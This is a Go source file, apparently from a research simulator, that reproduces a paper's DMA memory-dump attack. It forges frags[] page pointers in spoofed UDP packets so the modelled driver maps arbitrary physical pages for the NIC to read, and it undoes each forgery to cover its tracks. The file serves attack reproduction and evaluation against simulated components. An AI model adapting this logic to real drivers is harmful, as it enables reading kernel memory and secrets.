package attacks

import (
	"fmt"

	"dmafault/internal/core"
	"dmafault/internal/device"
	"dmafault/internal/layout"
	"dmafault/internal/netstack"
)

// RunMemoryDump implements the §3.1 headline consequence — "a full memory
// dump is possible when an attacker can modify data pointers before they are
// mapped, causing the driver to map arbitrary kernel addresses" — by
// iterating the Forward Thinking surveillance primitive (§5.5): each spoofed
// forwarded UDP packet carries one forged frags[] entry, the driver maps the
// named page for TX, and the NIC reads it. The attacker walks a PFN range
// and reassembles memory.
//
// Returns the dump alongside the trace; the caller can diff it against
// ground truth.
func RunMemoryDump(sys *core.System, nic *netstack.NIC, startPFN layout.PFN, pages int) (*Result, []byte) {
	r := newResult(fmt.Sprintf("memory dump via forged frags (%d pages from PFN %d)", pages, startPFN))
	atk, vb, err := leakVmemmap(sys, nic)
	if err != nil {
		return r.fail(err), nil
	}
	r.logf("vmemmap base %#x recovered; forging struct pages for PFNs %d..%d", uint64(vb), startPFN, startPFN+layout.PFN(pages)-1)

	dump := make([]byte, 0, pages*layout.PageSize)
	slot := 2
	for p := 0; p < pages; p++ {
		pfn := startPFN + layout.PFN(p)
		forged := uint64(vb) + uint64(pfn)*layout.StructPageSize
		if slot >= len(nic.RXRing()) {
			if err := nic.FillRX(); err != nil {
				return r.fail(err), dump
			}
			slot = 0
		}
		spy, err := readForgedFrag(r, sys, atk, nic, slot, device.DeviceFrag{PagePtr: forged, Off: 0, Len: layout.PageSize})
		if err != nil {
			return r.fail(fmt.Errorf("PFN %d: %w", pfn, err)), dump
		}
		dump = append(dump, spy.data...)
		// Cover tracks before completing, as in RunSurveillance. A failed
		// undo surfaces as a frag release error, which fails the verdict.
		_ = spy.undo(atk, nic)
		if err := nic.CompleteTX(spy.txIdx); err != nil {
			return r.fail(err), dump
		}
		if err := nic.ReapCompletions(); err != nil {
			r.logf("note: reap on PFN %d reported %v", pfn, err)
		}
		slot++
	}
	r.logf("dumped %d pages (%d KiB) of arbitrary physical memory", pages, pages*4)
	r.Detail["pages"] = fmt.Sprintf("%d", pages)
	r.Success = sys.Net.Stats().FragReleaseErrors == 0
	return r, dump
}
